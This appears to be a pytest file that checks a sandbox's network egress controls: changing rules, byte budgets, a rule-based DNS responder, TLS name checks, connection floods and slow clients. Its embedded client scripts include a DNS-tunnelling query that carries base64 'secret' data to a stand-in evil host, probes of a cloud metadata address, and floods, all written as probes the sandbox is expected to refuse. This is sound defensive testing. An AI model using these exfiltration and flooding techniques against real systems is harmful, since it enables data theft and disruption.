"""What bounds the ways out: rules that change, budgets, floods, slowness."""

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import pytest

from hutch.egress import Refusal
from hutch.egress.sockets import CHUNK
from hutch.egress.ways import proxy
from hutch_launchers.launcher import Launcher
from support.bounds import times
from support.launcher_methods import available
from support.networks import network
from support.public_net import PublicNet, public_net
from support.ways_out import Sandboxes, run_tries

pytestmark = [pytest.mark.slow, pytest.mark.real("bubblewrap")]


@pytest.fixture
async def bubble() -> Launcher:
    return await available("bubblewrap")


@pytest.fixture
def net(tmp_path: Path) -> Iterator[PublicNet]:
    with public_net(tmp_path) as net:
        yield net


CHANGES = r"""
seen = {}
def body(s):
    answer = b""
    try:
        while not answer.endswith((b".org", b".net")) and (piece := s.recv(9999)):
            answer += piece
    except ConnectionError:
        pass
    return answer[-22:].decode()
def get(host, stay=False):
    s = socket.create_connection((host, 80), 10)
    try:
        s.sendall(b"GET /hello HTTP/1.1\r\nHost: " + host.encode() + b"\r\n\r\n")
    except ConnectionError:
        return ""
    answer = body(s)
    return (answer, s) if stay else answer
seen["before"], held = get("api.example.org", stay=True)
seen["stays"], kept = get("x.cdn.example.org", stay=True)
held.settimeout(30)
seen["cut"] = body(held)
kept.sendall(b"GET /hello HTTP/1.1\r\nHost: x.cdn.example.org\r\n\r\n")
seen["still there"] = body(kept)
seen["after"] = get("api.example.org")
seen["new"] = get("other.example.net")[-10:]
"""


async def test_rules_that_change_count_at_once_and_cut_what_they_do_not_allow(
    bubble: Launcher, net: PublicNet, tmp_path: Path
) -> None:
    boxes = Sandboxes(bubble, net, tmp_path)
    seen: dict[str, Any] = {}

    async def inside() -> None:
        seen.update(await run_tries(boxes, CHANGES))

    async with anyio.create_task_group() as tasks:
        tasks.start_soon(inside)
        with anyio.fail_after(60):
            while len(net.asked) < 2:
                await anyio.sleep(0.02)
        boxes.force.replace(network("*.cdn.example.org:80", "other.example.net:80"))
    assert seen == {
        "before": "ello from api.example.org"[-22:],
        "stays": "ello from x.cdn.example.org"[-22:],
        "cut": "",
        "still there": "ello from x.cdn.example.org"[-22:],
        "after": "",
        "new": "xample.net",
    }
    assert ("api.example.org", 80, "cut") in boxes.refused()
    assert ("api.example.org", 80, "rule") in boxes.refused()


BUDGET = r"""
seen = {}
def size(host):
    s = socket.create_connection((host, 80), 10)
    try:
        s.sendall(b"GET /size/1000000 HTTP/1.1\r\nHost: " + host.encode() + b"\r\nConnection: close\r\n\r\n")
        got = 0
        while piece := s.recv(65536):
            got += len(piece)
    except OSError:
        pass
    return got
seen["first"] = size("x.cdn.example.org")
seen["second"] = size("y.cdn.example.org")
seen["another"] = size("api.example.org")
"""


async def test_bytes_beyond_a_budget_do_not_pass(bubble: Launcher, net: PublicNet, tmp_path: Path) -> None:
    bounded = network("api.example.org:80", "*.cdn.example.org:80", max_bytes={"*.cdn.example.org": 300_000})
    boxes = Sandboxes(bubble, net, tmp_path, bounded)
    seen = await run_tries(boxes, BUDGET)
    assert 0 < int(seen["first"]) <= 300_000 + CHUNK
    assert seen["second"] == 0
    assert int(seen["another"]) > 1_000_000
    assert {(host, why) for host, _, why in boxes.refused()} == {
        ("x.cdn.example.org", "bytes"),
        ("y.cdn.example.org", "bytes"),
    }


DNS = r"""
seen = {}
def question(name, kind=1, flags=0x0100):
    labels = b"".join(bytes([len(x)]) + x for x in name.encode("latin-1").split(b".")) + b"\0"
    return struct.pack(">HHHHHH", 7, flags, 1, 0, 0, 0) + labels + struct.pack(">HH", kind, 1)
def asked(data, tcp=False):
    if tcp:
        with socket.create_connection(("127.0.0.53", 53), 5) as s:
            s.sendall(struct.pack(">H", len(data)) + data)
            got = s.recv(999)[2:]
    else:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(1)
            s.sendto(data, ("127.0.0.53", 53))
            try:
                got = s.recv(999)
            except TimeoutError:
                return "silence"
    count = struct.unpack(">H", got[6:8])[0]
    return f"{got[3] & 15} {socket.inet_ntoa(got[-4:]) if count else '-'}"
for name, kind in (("A", 1), ("AAAA", 28), ("TXT", 16), ("HTTPS", 65), ("MX", 15)):
    seen[name] = asked(question("x.cdn.example.org", kind))
seen["again"] = asked(question("X.cdn.Example.ORG"))
seen["another"] = asked(question("y.cdn.example.org"))
seen["exact"] = asked(question("api.example.org"))
seen["by TCP"] = asked(question("x.cdn.example.org"), tcp=True)
seen["not granted"] = asked(question("evil.example.net"))
seen["carries data"] = asked(question("c2VjcmV0" * 7 + ".evil.example.net", 16))
seen["apex"] = asked(question("cdn.example.org"))
seen["NUL"] = asked(question("x\0.cdn.example.org"))
seen["reverse"] = asked(question("1.0.1.127.in-addr.arpa", 12))
seen["update"] = asked(question("x.cdn.example.org", flags=0x2800))
seen["an answer"] = asked(question("x.cdn.example.org", flags=0x8000))
seen["garbage"] = asked(b"\xff" * 40)
seen["short"] = asked(b"\0")
seen["loop"] = asked(struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"\xc0\x0c" + bytes(4))
for _ in range(3000):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(question("f.evil.example.net"), ("127.0.0.53", 53))
while (after := asked(question("api.example.org"))) == "silence":
    pass
seen["after a flood"] = after
"""


async def test_the_name_server_answers_from_the_rules_and_asks_nobody(
    bubble: Launcher, net: PublicNet, tmp_path: Path
) -> None:
    boxes = Sandboxes(bubble, net, tmp_path)
    seen = await run_tries(boxes, DNS)
    here = seen.pop("A")
    assert here.startswith("0 127.2.")
    assert seen.pop("again") == seen.pop("by TCP") == here
    assert seen.pop("another").startswith("0 127.2.")
    assert seen.pop("exact") == seen.pop("after a flood") == "0 127.1.0.1"
    nothing = ("AAAA", "TXT", "HTTPS", "MX")
    assert {name: seen.pop(name) for name in nothing} == dict.fromkeys(nothing, "0 -")
    silent = ("update", "an answer", "garbage", "short", "loop")
    assert {name: seen.pop(name) for name in silent} == dict.fromkeys(silent, "silence")
    assert seen == dict.fromkeys(seen, "3 -")
    assert net.resolved == []
    assert [c.host for c in boxes.log].count("evil.example.net") == 1


TLS = r"""
import ssl
seen = {}
def over(sock, name):
    context = ssl.create_default_context(cafile="/opt/ca.pem")
    try:
        with context.wrap_socket(sock, server_hostname=name) as s:
            s.sendall(b"GET /hello HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            return s.recv(12).decode()
    except OSError as error:
        return "closed"
def tunnel(target):
    s = socket.create_connection(("127.0.0.1", 3128), 10)
    s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    return s, s.recv(999)[:12].decode()
s, seen["CONNECT"] = tunnel("api.example.org:443")
seen["its own name"] = over(s, "api.example.org")
seen["another granted name"] = over(tunnel("api.example.org:443")[0], "x.cdn.example.org")
seen["one not granted"] = over(tunnel("x.cdn.example.org:443")[0], "other.example.net")
seen["its own at 8443"] = over(tunnel("api.example.org:8443")[0], "api.example.org")
seen["another at 8443"] = over(tunnel("api.example.org:8443")[0], "x.cdn.example.org")
seen["a private address"] = tunnel("private.cdn.example.org:443")[1]
seen["metadata"] = tunnel("metadata.cdn.example.org:443")[1]
host = "private.cdn.example.org"
seen["at its door"] = over(socket.create_connection((host, 443), 10), host)
"""


UPGRADE = r"""
seen = {}
asks = b"GET /chat HTTP/1.1\r\nHost: api.example.org\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"
def talk(s):
    s.settimeout(10)
    s.sendall(asks)
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        head += s.recv(1)
    s.sendall(b"\x81\x03hey")
    return head[:12].decode() + s.recv(99).decode("latin-1")
seen["at its door"] = talk(socket.create_connection(("api.example.org", 80)))
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"CONNECT api.example.org:80 HTTP/1.1\r\nHost: api.example.org:80\r\n\r\n")
answer = b""
while not answer.endswith(b"\r\n\r\n"):
    answer += s.recv(1)
seen["by CONNECT"] = talk(s)
"""


async def test_websockets_pass_by_a_door_and_by_connect(
    bubble: Launcher, net: PublicNet, tmp_path: Path
) -> None:
    seen = await run_tries(Sandboxes(bubble, net, tmp_path), UPGRADE)
    assert seen == dict.fromkeys(("at its door", "by CONNECT"), "HTTP/1.1 101\x81\x03HEY")


async def test_tls_must_be_to_the_judged_name_and_private_addresses_are_not_dialled(
    bubble: Launcher, net: PublicNet, tmp_path: Path
) -> None:
    net.private |= {"private.cdn.example.org": "10.0.0.1", "metadata.cdn.example.org": "169.254.169.254"}
    granted = network("api.example.org", "api.example.org:8443", "*.cdn.example.org")
    boxes = Sandboxes(bubble, net, tmp_path, granted)
    refused = ("another granted name", "another at 8443", "one not granted", "at its door")
    assert await run_tries(boxes, TLS) == {
        **dict.fromkeys(("CONNECT", "its own name", "its own at 8443"), "HTTP/1.1 200"),
        **dict.fromkeys(refused, "closed"),
        **dict.fromkeys(("a private address", "metadata"), "HTTP/1.1 403"),
    }
    assert sorted(str(c.refused) for c in boxes.log if c.refused) == ["address"] * 3 + ["server_name"] * 3


FLOOD = r"""
import errno
seen = {}
held, made, failed = [], 0, 0
for n in range(MANY):
    s = socket.socket()
    s.settimeout(0.5)
    try:
        s.connect(("127.0.0.1", 3128) if n % 2 else ("api.example.org", 80))
        made += 1
        held.append(s)
        if n % 4 == 0:
            s.send(b"CONNECT api.exam")
    except OSError:
        failed += 1
        s.close()
    if len(held) > 500:
        held.pop(0).close()
seen["tried"] = made + failed
"""
CALM = r"""
seen = {"slowest": 0.0}
import time
for _ in range(20):
    began = time.monotonic()
    with socket.create_connection(("api.example.org", 80), 20) as s:
        s.sendall(b"GET /hello HTTP/1.1\r\nHost: api.example.org\r\nConnection: close\r\n\r\n")
        assert b"hello" in s.makefile("rb").read()
    seen["slowest"] = max(seen["slowest"], time.monotonic() - began)
    time.sleep(0.1)
"""


async def test_thousands_of_connections_are_bounded_and_another_run_is_not_disturbed(
    bubble: Launcher, net: PublicNet, tmp_path: Path
) -> None:
    many = times(2_000, long=10_000)
    (tmp_path / "calm").mkdir()
    loud, calm = Sandboxes(bubble, net, tmp_path), Sandboxes(bubble, net, tmp_path / "calm")
    found: dict[str, dict[str, Any]] = {}

    async def inside(name: str, boxes: Sandboxes, tries: str) -> None:
        found[name] = await run_tries(boxes, tries)

    async with anyio.create_task_group() as tasks:
        tasks.start_soon(inside, "loud", loud, f"MANY = {many}\n{FLOOD}")
        with anyio.fail_after(60):
            while not any(c.refused is Refusal.TOO_MANY for c in loud.log):
                await anyio.sleep(0.05)
        await inside("calm", calm, CALM)
    assert found["loud"]["tried"] == many
    assert float(found["calm"]["slowest"]) < 10
    assert not any(c.refused for c in calm.log)
    assert len(loud.log) < 1200  # the others are sums


SLOW = r"""
seen = {}
def until_closed(sock, data):
    sock.settimeout(20)
    sock.sendall(data)
    try:
        return sock.recv(99).decode()[:12]
    except OSError as error:
        return "OSError: " + str(error)
for name, data in (("half a head", b"GET http://api"), ("half of SOCKS", b"\5"), ("a byte", b"G")):
    seen[name] = until_closed(socket.create_connection(("127.0.0.1", 3128)), data)
silent = socket.create_connection(("127.0.0.1", 3128))
silent.settimeout(20)
seen["silence"] = silent.recv(9).decode()
"""


@pytest.mark.parametrize("method", ["bubblewrap", "nsjail", "docker"])
async def test_a_client_that_does_not_finish_its_question_is_hung_up_on(
    method: str, net: PublicNet, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(proxy, "HEAD_S", 0.3)
    boxes = Sandboxes(await available(method), net, tmp_path)
    assert await run_tries(boxes, SLOW) == dict.fromkeys(
        ("half a head", "half of SOCKS", "a byte", "silence"), ""
    )
